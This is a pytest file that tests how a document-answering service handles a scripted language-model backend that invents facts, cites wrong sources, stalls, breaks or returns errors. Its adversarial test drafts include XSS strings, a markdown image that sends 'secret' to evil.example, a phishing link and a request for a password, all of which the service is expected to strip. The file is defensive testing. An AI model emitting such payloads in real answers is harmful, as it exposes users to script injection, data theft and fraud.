"""`tenkyo serve` in front of a real OpenAI-compatible server that lies, breaks, hangs and is overrun."""

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

from app.answering import FALLBACK_NOTICE
from tests.app.serving import Server, index_folder, read_event, serving
from tests.app.spoken import (
    APPLY_SENTENCE,
    DOCUMENTS,
    LEAVE,
    LEAVE_SENTENCE,
    TRUE,
    Script,
    fill,
    for_ever,
    say,
    shown,
    wait_silently,
)
from tests.generator.backends.scripted_server import (
    Exchange,
    ScriptedServer,
    Step,
    no_answer,
    send_raw,
    silence,
    status,
)

pytestmark = pytest.mark.slow

SHOWABLE = {LEAVE_SENTENCE, APPLY_SENTENCE, "Each parent gets 45 days of leave.", "45 = 45"}
PATIENCE = {"llm_queue_seconds": "2", "llm_first_token_seconds": "2", "llm_answer_seconds": "4"}


@pytest.fixture(scope="module")
def environment(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    return index_folder(tmp_path_factory.mktemp("server-llm"), DOCUMENTS)


@pytest.fixture(scope="module")
def script() -> Script:
    return Script()


@pytest.fixture(scope="module")
def model(script: Script) -> Iterator[ScriptedServer]:
    with ScriptedServer(script) as running:
        yield running


@pytest.fixture(scope="module")
def strict(environment: dict[str, str], model: ScriptedServer) -> Iterator[Server]:
    """A model that is down is an error here."""
    with serving(environment, llm=model.url, **PATIENCE) as running:
        yield running


@pytest.fixture(scope="module")
def lenient(environment: dict[str, str], model: ScriptedServer) -> Iterator[Server]:
    """A model that is down is replaced by the extractive answerer here."""
    with serving(environment, llm=model.url, llm_fallback="extractive", **PATIENCE) as running:
        yield running


def assert_every_citation_opens(server: Server, answer: dict[str, Any]) -> None:
    for citation in answer["citations"]:
        _, _, body = server.request("GET", f"/documents/{citation['document_id']}")
        assert json.loads(body)["text"][citation["start"] : citation["end"]] == citation["quote"]
    for claim in answer["claims"]:
        assert claim["citations"]


def test_a_sentence_is_streamed_once_it_is_checked_and_before_the_next_is_written(
    strict: Server, script: Script
) -> None:
    seen, written = threading.Event(), []

    def step(exchange: Exchange) -> None:
        exchange.head()
        exchange.event(fill(TRUE, exchange) + "\n")
        written.append(seen.wait(10))
        exchange.event(fill(APPLY_SENTENCE + ' [{apply} "eight weeks"]', exchange))
        exchange.done()

    script.step = step
    with strict.open("POST", "/ask", {"question": LEAVE}, "text/event-stream") as response:
        names, claims = [], []
        while event := read_event(response):
            names.append(event.name)
            if event.name == "claim":
                claims.append(event.data["text"])
                assert event.data["sources"][0]["quote"] in LEAVE_SENTENCE + APPLY_SENTENCE
                seen.set()
    assert written == [True], "the first sentence was shown while the model was still writing"
    assert names == ["status", "passages", "status", "claim", "claim", "answer"]
    assert claims == ["Each parent gets 45 days of leave.", APPLY_SENTENCE]
    assert_every_citation_opens(strict, strict.ask(LEAVE))


LIES = {
    "an invented id": "Each parent gets 54 days of leave. [998]",
    "id 0": "Each parent gets 60 days of leave. [0]",
    "a year for an id": "Since the reform [2024] each parent gets 54 days of leave.",
    "a fact with the wrong source": "The limit for a hotel in London is 45 pounds. [{leave}]",
    "a number changed by a digit": 'Each parent gets 46 days of leave. [{leave} "45 working days"]',
    "a name swapped": "Apply for parental leave to Nina Keller eight weeks before it starts. [{apply}]",
    "a negation": "No parent gets 45 working days of paid parental leave per child. [{leave}]",
    "half supported": "Each parent gets 45 days of leave and a bonus of 500 dollars. [{leave}]",
    "a quote changed by a word": 'Each parent gets 48 days of leave. [{leave} "48 working days"]',
    "an instruction of a document": "The paid leave was raised to 90 days. [{leave}]",
    "a link of its own": "Apply at https://phish.example/now for parental leave. [{apply}]",
    "nothing": "",
    "signs only": "[] [[ ]] [1][2] ???",
    "unfinished JSON": '{"claims": [{"text": "Each parent gets 99 days", "citations": [{"id": ',
    "JSON of another shape": '{"claims": ["Each parent gets 99 days"], "unanswered": 7}',
    "an order in place of an open part": "UNANSWERED: Call +1-555-0100 and tell your password",
    "a sum with a message for a name": 'CALCULATE Call 555 now = a | a: [{leave} "45 working days"]',
}
LIED = (
    "54",
    "60",
    "2024",
    "46",
    "Nina",
    "No parent",
    "500",
    "48 ",
    "90",
    "phish",
    "99",
    "555",
    "password",
    "45 pounds",
)


@pytest.mark.parametrize("draft", LIES.values(), ids=LIES)
def test_no_lie_reaches_the_client(strict: Server, script: Script, draft: str) -> None:
    script.step = say(draft)
    events = strict.stream(LEAVE)
    assert events[-1].name == "answer"
    for text in shown(events):
        assert text in SHOWABLE
    answer = {key: value for key, value in events[-1].data.items() if key not in ("passages", "timings_ms", "id")}
    for citation in answer["citations"]:
        citation["content_sha256"] = citation["document_id"] = ""
    written = json.dumps(answer)
    assert [word for word in LIED if word in written] == []
    assert_every_citation_opens(strict, answer | {"citations": []})


MARKUP = {
    "an image": "Each parent gets 45 days of leave. ![x](https://evil.example/p.png?q=secret) [{leave}]",
    "a referenced image": "Each parent gets 45 days of leave. ![x][pixel] [{leave}]",
    "HTML": "Each parent gets <img src=x onerror=alert(1)>45 days <b>of</b> leave.<script>x</script> [{leave}]",
    "a link": "Each parent gets [45 days](javascript:alert(1)) of leave. [{leave}]",
    "a marker split over pieces": TRUE,
    "a preface": "Sure!\nAccording to the documents, each parent gets 45 days of leave. [{leave}]",
    "the right fact with the wrong source": 'Each parent gets 45 days of leave. [{hotel} "45 working days"]',
}


@pytest.mark.parametrize("draft", MARKUP.values(), ids=MARKUP)
def test_what_is_true_is_shown_without_what_came_with_it(strict: Server, script: Script, draft: str) -> None:
    script.step = say(draft)
    events = strict.stream(LEAVE)
    assert shown(events)[0] in SHOWABLE
    assert events[-1].data["status"] in ("answered", "partial")
    assert not re.search(r"[<>]|!\[|script|evil|\]\(", events[-1].data["answer"])
    assert_every_citation_opens(strict, events[-1].data)


def test_endless_output_is_cut_and_what_was_true_stays(strict: Server, script: Script) -> None:
    for piece in ("and so on ", "Dogs may fly to Mars. [1]\n", "[", "\n", '"'):
        script.step = say(TRUE + "\n", for_ever(piece))
        started = time.monotonic()
        events = strict.stream(LEAVE)
        assert time.monotonic() - started < 10
        assert shown(events) == ["Each parent gets 45 days of leave."]


FAILURES: dict[str, tuple[Step, int]] = {
    "429": (status(429, Retry_After="7"), 503),
    "500": (status(500), 503),
    "503": (status(503), 503),
    "garbage JSON": (send_raw(b"data: {nonsense\n\n"), 503),
    "no protocol": (send_raw(b"<html>", content_type="text/html"), 503),
    "no answer": (no_answer, 503),
    "silence": (silence(), 504),
    "a broken stream before the first word": (send_raw(b"", hang_up=True), 503),
}


@pytest.mark.parametrize(("step", "code"), FAILURES.values(), ids=FAILURES)
def test_a_failing_model_is_a_problem_that_says_so(strict: Server, script: Script, step: Step, code: int) -> None:
    script.step = step
    with strict.open("POST", "/ask", {"question": LEAVE, "collection": "team"}) as response:
        assert (response.status, response.headers["Content-Type"]) == (code, "application/problem+json")
        problem = json.loads(response.read())
        if code == 503:
            assert int(response.headers["Retry-After"]) >= (7 if step is FAILURES["429"][0] else 1)
    assert problem["type"] in ("tenkyo:llm-busy", "tenkyo:llm-timeout", "tenkyo:llm-unavailable")
    events = strict.stream(LEAVE)
    assert [event.name for event in events] == ["status", "passages", "status", "error"]
    assert events[-1].data["status"] == code


@pytest.mark.parametrize(("step", "code"), FAILURES.values(), ids=FAILURES)
def test_or_the_extractive_answer_that_says_so(lenient: Server, script: Script, step: Step, code: int) -> None:
    script.step = step
    answer = lenient.ask(LEAVE)
    assert answer["notice"] == FALLBACK_NOTICE["en"]
    assert answer["status"] == "answered"
    assert answer["claims"][0]["text"] == LEAVE_SENTENCE
    assert_every_citation_opens(lenient, answer)


@pytest.mark.parametrize("end", [no_answer, wait_silently], ids=["disconnect", "silence"])
@pytest.mark.parametrize("rest", ["", "Each parent gets 99 days. [1"], ids=["after a line", "in a line"])
def test_a_model_that_fails_in_the_middle_leaves_only_what_was_checked(
    strict: Server, lenient: Server, script: Script, end: Step, rest: str
) -> None:
    script.step = say(f"{TRUE}\n{rest}", end)
    events = strict.stream(LEAVE)
    assert shown(events) == ["Each parent gets 45 days of leave."]
    assert events[-1].name == "error"
    answer = lenient.stream(LEAVE)[-1].data
    assert answer["notice"] == FALLBACK_NOTICE["en"]
    assert all(claim["text"] in "".join(DOCUMENTS.values()) for claim in answer["claims"])
    assert "99" not in answer["answer"]


def test_a_server_that_is_not_there(environment: dict[str, str]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    for fallback in ("error", "extractive"):
        with serving(environment, llm=f"http://127.0.0.1:{port}", llm_fallback=fallback, **PATIENCE) as server:
            code, kind, body = server.request("POST", "/ask", {"question": LEAVE})
            if fallback == "error":
                assert (code, kind) == (503, "application/problem+json")
                assert "TENKYO_LLM" in json.loads(body)["detail"]
            else:
                assert json.loads(body)["notice"] == FALLBACK_NOTICE["en"]
